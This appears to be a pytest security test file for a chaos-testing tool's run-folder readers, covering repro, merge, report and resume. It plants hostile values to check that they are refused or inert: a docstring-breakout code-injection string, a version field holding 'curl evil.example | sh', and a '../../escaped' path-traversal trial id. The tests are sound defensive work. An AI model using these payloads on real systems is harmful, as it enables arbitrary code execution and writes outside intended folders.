"""A run folder is an artifact people download from CI: every command that reads one treats it as
untrusted input. A crafted folder makes each reader refuse in one line or produce inert output;
no generated script runs anything it read, and no file is written outside the folder asked for.

The hostile values are written from the outside into a real run folder (a kill sweep whose EO
violation ``chaos repro`` can reproduce), as someone who forged the artifact would (issue 24,
item 5: three of three code markers ran, and a crafted trial id wrote the script elsewhere).
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from kits.robustkit import chaos, one_line
from kits.runs import small_sweep

# closes the docstring it lands in, then runs code that leaves a marker file in the current folder
INJECT = 'x"""\n__import__("pathlib").Path({!r}).touch()\n"""'


@pytest.fixture(scope="module")
def sweep_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("hostile_sweep")
    res = small_sweep(d, "hostile_sweep")
    assert res.violations("EO"), "the sweep found no duplicate to reproduce"
    return Path(res.run_dir)


def _copy(run_dir: Path, where: Path, name: str = "run") -> Path:
    dst = where / name
    shutil.copytree(run_dir, dst, ignore=shutil.ignore_patterns("latest"))
    return dst


def _eo_trial(run_dir: Path) -> str:
    results = json.loads((run_dir / "results.json").read_text())
    return next(
        t
        for c in results["cells"]
        for v in c["verdicts"]
        if v["property"] == "EO" and v["status"] == "violated"
        for t in v["evidence"]["trial_ids"]
    )


def _rewrite_journal(run_dir: Path, change) -> None:
    lines = [json.loads(line) for line in (run_dir / "journal.jsonl").read_text().splitlines()]
    (run_dir / "journal.jsonl").write_text("".join(json.dumps(change(r)) + "\n" for r in lines))


@pytest.mark.parametrize("where", ["point", "versions", "folder"])
def test_a_repro_script_quotes_every_value_it_read_so_none_of_them_runs(sweep_dir, tmp_path, where):
    marks = tmp_path / "marks"  # the script runs here: a value that ran as code leaves a file
    marks.mkdir()
    payload = INJECT.format(f"{where}.mark")
    run = _copy(sweep_dir, tmp_path, name=payload if where == "folder" else "run")
    trial = _eo_trial(run)
    if where == "point":  # the journal's kill point
        _rewrite_journal(run, lambda r: {**r, "point": payload} if r["trial_id"] == trial else r)
    if where == "versions":  # run.json's versions, and a shell command where a release number goes
        meta = json.loads((run / "run.json").read_text())
        meta["versions"]["langgraph"] = payload
        meta["versions"]["langgraph-checkpoint-sqlite"] = "1.0; curl evil.example | sh"
        (run / "run.json").write_text(json.dumps(meta))

    out = tmp_path / "out"
    r = chaos(["repro", str(run), trial, "--out", str(out)], tmp_path / "state")
    assert r.returncode == 0, r.stderr
    script = out / f"repro_{trial}.py"
    ran = subprocess.run([sys.executable, str(script)], cwd=marks, capture_output=True, text=True, timeout=300)
    assert ran.returncode in (0, 1) and "Error" not in ran.stderr, ran.stdout + ran.stderr  # it ran: no syntax error
    assert sorted(p.name for p in marks.iterdir()) == [], "a value read from the run folder ran as code"
    md = (out / f"repro_{trial}.md").read_text()
    assert "curl" not in md and "\n__import__" not in md  # no pasted shell command; a value stays on its line


def test_a_crafted_trial_id_is_refused_and_nothing_is_written_outside_the_folder(sweep_dir, tmp_path):
    run = _copy(sweep_dir, tmp_path)
    trial = _eo_trial(run)
    evil = "../../escaped"
    _rewrite_journal(run, lambda r: {**r, "trial_id": evil} if r["trial_id"] == trial else r)
    results = json.loads((run / "results.json").read_text())
    for c in results["cells"]:
        for v in c["verdicts"]:
            v["evidence"]["trial_ids"] = [evil if t == trial else t for t in v["evidence"]["trial_ids"]]
    (run / "results.json").write_text(json.dumps(results))
    r = chaos(["repro", str(run), evil], tmp_path / "state")
    assert r.returncode == 3 and "not a trial id" in one_line(r.stderr)
    assert not list(tmp_path.rglob("repro_*")), "a script was written"
    for command in (["analyze", str(run)], ["report", str(run)], ["rerun", str(run), evil, "--out", str(tmp_path / "re")]):
        r = chaos(command, tmp_path / "state")
        assert r.returncode == 3 and "is not a trial id chaos makes" in one_line(r.stderr), (command, r.stdout + r.stderr)
    assert not (tmp_path / "re").exists()
    # an id of the right shape that the scenario does not expand to (cell 0 has 1 trial)
    _rewrite_journal(run, lambda r: {**r, "trial_id": "c000-t0005"} if r["trial_id"] == evil else r)
    r = chaos(["repro", str(run), "c000-t0005"], tmp_path / "state")
    assert r.returncode == 3 and "not one the scenario expands to" in one_line(r.stderr)
    assert not list(tmp_path.rglob("repro_*"))


# ------------------------------------------------------------------------------------- chaos merge

DATE = "2026-01-02"


@pytest.fixture(scope="module")
def shards(tmp_path_factory) -> Path:
    """The tiny suite of tests/kits/shardkit.py run as two shards (real racers)."""
    from kits.shardkit import chaos as shard_chaos
    from kits.shardkit import write_tiny_suite

    d = tmp_path_factory.mktemp("hostile_shards")
    write_tiny_suite(d)
    for i in (1, 2):
        p = shard_chaos("nightly", d / "suite.yaml", "--out", d / f"s{i}", "--date", DATE, "-q", "--shard", f"{i}/2")
        assert p.returncode in (0, 1, 2), p.stdout[-2000:] + p.stderr[-2000:]
    return d


def _merge(tmp_path: Path, *folders: Path) -> subprocess.CompletedProcess:
    return chaos(["merge", *map(str, folders), "--out", str(tmp_path / "merged")], tmp_path / "state", timeout=600)


def _shard_copy(shards: Path, i: int, tmp_path: Path, name: str | None = None) -> Path:
    dst = tmp_path / (name or f"s{i}") / DATE
    shutil.copytree(shards / f"s{i}" / DATE, dst, symlinks=True)
    return dst


def _run_dirs(night: Path) -> dict[str, Path]:
    s = json.loads((night / "summary.json").read_text())
    return {r["scenario"]: night / r["run_dir"] for r in s["runs"] if r["run_dir"]}


def _refused(p: subprocess.CompletedProcess, tmp_path: Path, *says: str) -> None:
    line = one_line(p.stderr)
    assert p.returncode == 3, p.stdout + p.stderr
    for s in says:
        assert s in line, line
    assert not (tmp_path / "merged" / DATE).exists(), "a half-made night was left"


def test_merge_refuses_shards_of_another_night_or_other_releases(shards, tmp_path):
    one = _shard_copy(shards, 1, tmp_path)
    two = _shard_copy(shards, 2, tmp_path)
    plan = json.loads((two / "shard.json").read_text())
    (two / "shard.json").write_text(json.dumps({**plan, "date": "2026-01-03"}))
    _refused(_merge(tmp_path, one, two), tmp_path, "of the night of 2026-01-03")
    (two / "shard.json").write_text(json.dumps(plan))
    for key, value in (("chaos", "0.0.1"), ("langgraph", "0.9.0")):
        meta_path = _run_dirs(two)["tiny_stray"] / "run.json"
        meta = json.loads(meta_path.read_text())
        old = meta["versions"][key]
        meta["versions"][key] = value
        meta_path.write_text(json.dumps(meta))
        _refused(_merge(tmp_path, one, two), tmp_path, f"ran {key}", "same releases")
        meta["versions"][key] = old
        meta_path.write_text(json.dumps(meta))


def test_merge_refuses_a_forged_trial_and_a_copy_of_another_shard(shards, tmp_path):
    one = _shard_copy(shards, 1, tmp_path)
    two = _shard_copy(shards, 2, tmp_path)
    # a trial the scenario does not expand to, appended to a shard's journal
    journal = _run_dirs(one)["tiny_stray"] / "journal.jsonl"
    first = json.loads(journal.read_text().splitlines()[0])
    with journal.open("a") as f:
        f.write(json.dumps({**first, "trial_id": first["trial_id"].split("-")[0] + "-t0009"}) + "\n")
    _refused(_merge(tmp_path, one, two), tmp_path, "not one the scenario expands to")
    # shard 1 copied and labelled shard 2
    fake = _shard_copy(shards, 1, tmp_path, name="fake2")
    plan = json.loads((fake / "shard.json").read_text())
    plan["shard"]["index"] = 2
    (fake / "shard.json").write_text(json.dumps(plan))
    summary = json.loads((fake / "summary.json").read_text())
    summary["shard"] = "2/2"
    (fake / "summary.json").write_text(json.dumps(summary))
    _refused(_merge(tmp_path, _shard_copy(shards, 1, tmp_path, name="one"), fake), tmp_path, "shard 2/2")


def test_merge_never_follows_a_run_dir_out_of_the_shards_folder(shards, tmp_path):
    one = _shard_copy(shards, 1, tmp_path)
    two = _shard_copy(shards, 2, tmp_path)
    s = json.loads((two / "summary.json").read_text())
    other = _run_dirs(one)
    for r in s["runs"]:  # point shard 2's entries at shard 1's runs (a sweep's journal scored as another's)
        r["run_dir"] = str(Path("..", "..", "s1", DATE) / other[r["scenario"]].relative_to(one))
    (two / "summary.json").write_text(json.dumps(s))
    _refused(_merge(tmp_path, one, two), tmp_path, "run_dir", "is not a run folder under")


def test_merge_names_lost_trials_and_leaves_no_half_night_on_a_bad_journal_line(shards, tmp_path):
    one = _shard_copy(shards, 1, tmp_path)
    two = _shard_copy(shards, 2, tmp_path)
    stray = {1: _run_dirs(one)["tiny_stray"], 2: _run_dirs(two)["tiny_stray"]}
    i = next(k for k, rd in stray.items() if (rd / "journal.jsonl").read_text().strip())
    journal = stray[i] / "journal.jsonl"
    lines = journal.read_text().splitlines(keepends=True)
    journal.write_text("".join(lines[1:]))  # one stray_resume trial lost
    p = _merge(tmp_path, one, two)
    assert p.returncode == 3, p.stdout + p.stderr
    s = json.loads((tmp_path / "merged" / DATE / "summary.json").read_text())
    failures = [c["failure"] for r in s["runs"] for c in r["cells"] if c["failure"]]
    assert any(f"shard {i}/2: its journal holds 0 of the 1 trials its results.json counted" in f for f in failures), failures
    shutil.rmtree(tmp_path / "merged")
    journal.write_text("".join(lines) + "{not json\n")
    _refused(_merge(tmp_path, one, two), tmp_path, str(journal), "journal line is not a JSON record")


def test_a_resume_never_deletes_a_work_dir_that_run_json_points_elsewhere(sweep_dir, tmp_path):
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.txt").write_text("years of work")
    run = _copy(sweep_dir, tmp_path)
    meta = json.loads((run / "run.json").read_text())
    meta["work_dir"] = str(precious)
    (run / "run.json").write_text(json.dumps(meta))
    r = chaos(["run", "--resume", str(run), "-q"], tmp_path / "state")
    assert r.returncode == 3 and "work_dir" in one_line(r.stderr), r.stdout + r.stderr
    assert (precious / "thesis.txt").read_text() == "years of work"


def test_report_of_a_night_never_follows_a_run_dir_out_of_it(shards, tmp_path):
    one = _shard_copy(shards, 1, tmp_path)
    two = _shard_copy(shards, 2, tmp_path)
    victim = _run_dirs(two)["tiny_sweep"]
    before = {p.name: p.stat().st_mtime_ns for p in victim.iterdir()}
    s = json.loads((one / "summary.json").read_text())
    for r in s["runs"]:
        if r["scenario"] == "tiny_sweep":
            r["run_dir"] = str(Path("..", "..", "s2", DATE) / victim.relative_to(two))
    (one / "summary.json").write_text(json.dumps(s))
    for command in ("report", "analyze"):
        r = chaos([command, str(one)], tmp_path / "state")
        assert r.returncode == 3 and "is not a run folder under" in one_line(r.stderr), r.stdout + r.stderr
    assert {p.name: p.stat().st_mtime_ns for p in victim.iterdir()} == before, "another folder's files were rewritten"
